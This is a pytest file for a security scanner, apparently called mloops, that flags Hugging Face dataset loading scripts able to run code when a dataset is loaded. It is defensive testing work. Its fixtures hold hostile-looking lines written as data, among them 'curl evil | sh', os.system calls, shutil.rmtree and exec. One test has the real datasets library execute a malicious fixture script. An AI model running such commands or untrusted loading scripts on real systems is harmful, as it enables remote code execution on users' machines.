"""Datasets: loading scripts found by place and by content, clean data folders, the scan's inventory."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from corpus import dataset_folders as fx
from corpus.prove import code_runs

from mloops import scan_path
from mloops.cli import main
from mloops.core import Severity
from mloops.reporters import reporter

LOAD_DATASET = """
import os, sys
os.environ.update(HF_DATASETS_OFFLINE="1", HF_HUB_OFFLINE="1", HF_HOME=sys.argv[2])
import datasets
try:
    datasets.load_dataset(sys.argv[1], trust_remote_code=True)
except Exception as exc:
    print(f"load_dataset raised {type(exc).__name__}: {exc}", file=sys.stderr)
"""


def findings_of(report, rule_id: str):
    return [f for f in report.findings if f.rule.id == rule_id]


def above_info(report) -> list:
    return [(f.rule.id, f.location.display, f.message) for f in report.findings if f.severity > Severity.INFO]


# ------------------------------------------------------------ loading scripts by place


def test_malicious_loading_script_runs_under_datasets_and_is_flagged_with_its_imports(tmp_path: Path):
    marker = tmp_path / "marker"
    script = fx.hub_layout(tmp_path / "reviews", fx.malicious_script(marker))
    ran, stderr = code_runs([LOAD_DATASET, str(script.parent), str(tmp_path / "hf")], tmp_path, marker)
    assert ran, stderr  # the real library runs the script: the fixture is what mloops must catch
    marker.unlink()

    report = scan_path(str(tmp_path / "reviews"))
    (finding,) = findings_of(report, "MLO340")
    assert finding.location.path == str(script)
    assert finding.severity == Severity.CRITICAL
    assert finding.evidence["role"] == "default"
    assert finding.evidence["imports"] == "datasets, subprocess, sys"
    assert finding.evidence["process"] == "subprocess.run"
    assert finding.evidence["builders"] == "Reviews"
    assert "load_dataset('reviews') runs this script" in finding.message
    assert not marker.exists()  # scanning never ran it


def test_benign_loading_script_is_high_and_lists_what_it_imports(tmp_path: Path):
    # Code that runs on load is high whatever it is seen to do: the listing is evidence, not a verdict.
    prelude = "import csv\nimport json\n"
    fx.hub_layout(tmp_path / "reviews", fx.builder_source("Reviews", prelude))
    (finding,) = findings_of(scan_path(str(tmp_path)), "MLO340")
    assert finding.severity == Severity.HIGH
    assert finding.evidence["imports"] == "datasets, csv, json"
    assert not {"process", "network", "code", "filesystem"} & set(finding.evidence)


@pytest.mark.parametrize(
    ("prelude", "severity", "kind", "names"),
    [
        ("import requests\nrequests.get('https://example.invalid/x')", Severity.HIGH, "network", "requests.get"),
        (
            "import urllib.request as u\nu.urlopen('https://example.invalid')",
            Severity.HIGH,
            "network",
            "urllib.request.urlopen",
        ),
        ("exec(compile('x = 1', 'f', 'exec'))", Severity.CRITICAL, "code", "exec, compile"),
        ("import os as o\no.system('id')", Severity.CRITICAL, "process", "os.system"),
        ("import shutil\nshutil.rmtree('/tmp/x')", Severity.HIGH, "filesystem", "shutil.rmtree"),
        # References run as surely as calls; star imports are resolved.
        ("import os\nlist(map(os.system, ['id']))", Severity.CRITICAL, "process", "os.system"),
        (
            "import threading, subprocess\nthreading.Thread(target=subprocess.call, args=(['id'],))",
            Severity.CRITICAL,
            "process",
            "subprocess.call",
        ),
        ("from os import *\nsystem('id')", Severity.CRITICAL, "process", "os.system"),
        ("from builtins import *\nrun = exec\nrun('x = 1')", Severity.CRITICAL, "code", "builtins.exec"),
    ],
)
def test_severity_follows_what_the_script_does(tmp_path: Path, prelude, severity, kind, names):
    fx.hub_layout(tmp_path / "reviews", fx.builder_source("Reviews", prelude))
    (finding,) = findings_of(scan_path(str(tmp_path)), "MLO340")
    assert finding.severity == severity
    assert finding.evidence[kind] == names


def test_other_python_at_a_dataset_root_is_one_step_lower(tmp_path: Path):
    fx.hub_layout(tmp_path / "reviews", fx.builder_source("Reviews"))
    (tmp_path / "reviews" / "helpers.py").write_text("import os\nos.system('curl evil | sh')\n")
    (tmp_path / "reviews" / "sub").mkdir()
    (tmp_path / "reviews" / "sub" / "tool.py").write_text("import os\nos.system('id')\n")
    found = {Path(f.location.path).name: f for f in findings_of(scan_path(str(tmp_path)), "MLO340")}
    assert set(found) == {"reviews.py", "helpers.py"}  # sub/tool.py is not at the root
    assert found["helpers.py"].evidence["role"] == "root"
    assert found["helpers.py"].severity == Severity.HIGH  # a process call, one step below CRITICAL


@pytest.mark.parametrize(
    "evidence_file",
    ["card", "dataset_infos.json", "dataset_dict.json", "data/train.csv", "train.parquet"],
)
def test_each_kind_of_dataset_evidence_marks_the_folder(tmp_path: Path, evidence_file: str):
    root = tmp_path / "reviews"
    (root / "data").mkdir(parents=True)
    (root / "reviews.py").write_text("import json\n")  # no builder class: its place alone makes it the script
    if evidence_file == "card":
        (root / "README.md").write_text(fx.CARD)
    else:
        (root / evidence_file).write_text("{}")
    report = scan_path(str(root))
    (finding,) = findings_of(report, "MLO340")
    assert finding.evidence["role"] == "default"
    assert report.dataset_folders == [str(root)]


def test_scanning_the_script_alone_still_sees_its_folder(tmp_path: Path):
    script = fx.hub_layout(tmp_path / "reviews", fx.builder_source("Reviews"))
    (finding,) = findings_of(scan_path(str(script)), "MLO340")
    assert finding.evidence["role"] == "default"


# ------------------------------------------------------------ loading scripts by content


@pytest.mark.parametrize(
    ("imports", "base"),
    [
        ("", "datasets.GeneratorBasedBuilder"),
        ("import datasets as ds\n", "ds.ArrowBasedBuilder"),
        ("from datasets import GeneratorBasedBuilder as G\n", "G"),
        ("from datasets.builder import DatasetBuilder\n", "DatasetBuilder"),
    ],
)
def test_a_builder_class_makes_a_loading_script_anywhere(tmp_path: Path, imports: str, base: str):
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "corpus.py").write_text(fx.builder_source("Corpus", imports, base))
    (finding,) = findings_of(scan_path(str(tmp_path)), "MLO340")
    assert finding.evidence["role"] == "builder" and finding.evidence["builders"] == "Corpus"
    assert finding.severity == Severity.HIGH


def test_a_script_named_after_its_folder_is_a_loading_script_whatever_else_is_there(tmp_path: Path):
    # load_dataset("<folder>") runs <folder>/<folder>.py: no card, metadata or data files are needed.
    folder = tmp_path / "reviews"
    folder.mkdir()
    marker = tmp_path / "marker"
    (folder / "reviews.py").write_text(f"import os\nos.system('touch {marker}')\n")
    ran, stderr = code_runs([LOAD_DATASET, str(folder), str(tmp_path / "hf")], tmp_path, marker)
    assert ran, stderr  # the real library runs it, though the folder has nothing else
    marker.unlink()
    (finding,) = findings_of(scan_path(str(tmp_path)), "MLO340")
    assert finding.evidence["role"] == "named"
    assert finding.severity == Severity.HIGH  # a folder of code only: one step below its process call
    (folder / "reviews.jsonl").write_text("{}\n")
    assert findings_of(scan_path(str(tmp_path)), "MLO340")[0].severity == Severity.CRITICAL
    (folder / "reviews.py").write_text("x = 1\n")
    (finding,) = findings_of(scan_path(str(folder / "reviews.py")), "MLO340")
    assert finding.severity == Severity.HIGH


def test_a_module_named_after_a_folder_of_code_only_is_one_step_lower(tmp_path: Path):
    # utils/utils.py beside other modules, no datasets import: load_dataset("utils") would run it, but it
    # is rarely meant as a loading script; still reported.
    folder = tmp_path / "utils"
    folder.mkdir()
    (folder / "utils.py").write_text("import math\n\ndef norm(x):\n    return math.sqrt(x)\n")
    (folder / "helpers.py").write_text("")
    (finding,) = findings_of(scan_path(str(tmp_path)), "MLO340")
    assert finding.severity == Severity.MEDIUM
    (folder / "utils.py").write_text("import datasets\n")
    (finding,) = findings_of(scan_path(str(tmp_path)), "MLO340")
    assert finding.severity == Severity.HIGH


# ------------------------------------------------------------ no false alarms


def test_python_projects_and_model_folders_are_not_datasets(tmp_path: Path):
    project = tmp_path / "mypkg"
    project.mkdir()
    (project / "__init__.py").write_text("")  # a package's module named after it is no loading script
    (project / "mypkg.py").write_text("import json\nprint(json.dumps({}))\n")
    (project / "README.md").write_text("# mypkg\n\nA package.\n")
    (project / "config.json").write_text("{}")
    (project / "notes.txt").write_text("x")
    model = tmp_path / "bert"
    model.mkdir()
    (model / "README.md").write_text(fx.MODEL_CARD)
    (model / "modeling.py").write_text("import torch\n")
    report = scan_path(str(tmp_path))
    assert findings_of(report, "MLO340") == []
    assert report.dataset_folders == []


def test_card_keys_outside_the_front_matter_decide_nothing(tmp_path: Path):
    root = tmp_path / "docs"
    root.mkdir()
    (root / "README.md").write_text("# Docs\n\nconfigs: see below\ntask_categories: none\n")
    (root / "build.py").write_text("import os\n")
    assert findings_of(scan_path(str(root)), "MLO340") == []


def test_real_clean_datasets_give_no_finding_above_info(tmp_path: Path):
    datasets = pytest.importorskip("datasets")
    import numpy as np

    features = datasets.Features(
        {
            "text": datasets.Value("string"),
            "label": datasets.ClassLabel(names=["neg", "pos"]),
            "matrix": datasets.Array2D(shape=(2, 2), dtype="float32"),  # an Arrow extension type, not pickled
        }
    )
    rows = {"text": ["good", "bad"], "label": [1, 0], "matrix": [np.zeros((2, 2))] * 2}
    data = datasets.Dataset.from_dict(rows, features=features)
    data.save_to_disk(str(tmp_path / "saved"))
    datasets.DatasetDict({"train": data, "test": data}).save_to_disk(str(tmp_path / "splits"))
    hub = tmp_path / "hub"
    (hub / "data").mkdir(parents=True)
    (hub / "README.md").write_text(fx.CARD)
    data.to_parquet(str(hub / "data" / "train-00000-of-00001.parquet"))
    data.to_json(str(hub / "data" / "test.jsonl"))
    data.to_csv(str(hub / "data" / "validation.csv"))

    report = scan_path(str(tmp_path))
    assert above_info(report) == []
    assert report.exit_code(Severity.LOW) == 0
    assert sorted(Path(p).name for p in report.dataset_folders) == ["hub", "saved", "splits", "test", "train"]
    formats = {Path(r.path).name: r.formats for r in report.files}
    assert formats["train-00000-of-00001.parquet"] == ["parquet"]
    assert formats["data-00000-of-00001.arrow"] == ["arrow-ipc"]


# ------------------------------------------------------------ the inventory


def test_summary_counts_datasets_notebooks_and_source_files(tmp_path: Path):
    fx.hub_layout(tmp_path / "reviews", fx.builder_source("Reviews"))
    (tmp_path / "reviews" / "train.parquet").write_bytes(b"PAR1" + b"\0" * 8 + b"PAR1")
    (tmp_path / "train.py").write_text("import torch\n")
    (tmp_path / "eda.ipynb").write_text(json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    (tmp_path / "model.safetensors").write_bytes(b"\x02\x00\x00\x00\x00\x00\x00\x00{}")
    report = scan_path(str(tmp_path))
    counts = json.loads(reporter("json")(report, Severity.HIGH))["summary"]["inventory"]
    assert counts == {
        "model_files": 1,
        "dataset_folders": 1,
        "dataset_loading_scripts": 1,
        "data_files": 1,
        "notebooks": 1,
        "source_files": 2,
        "deployment_files": 0,
        "other_files": 2,  # README.md, dataset_infos.json
    }
    text = reporter("text")(report, Severity.HIGH)
    assert "1 dataset folder(s), 1 dataset loading script(s), 1 data file(s), 1 notebook(s)" in " ".join(text.split())


def test_cli_exit_code_for_a_dataset_with_a_malicious_script(tmp_path: Path, capsys):
    fx.hub_layout(tmp_path / "reviews", fx.malicious_script(tmp_path / "marker"))
    assert main(["scan", str(tmp_path)]) == 1
    assert "MLO340" in capsys.readouterr().out
    assert not (tmp_path / "marker").exists()
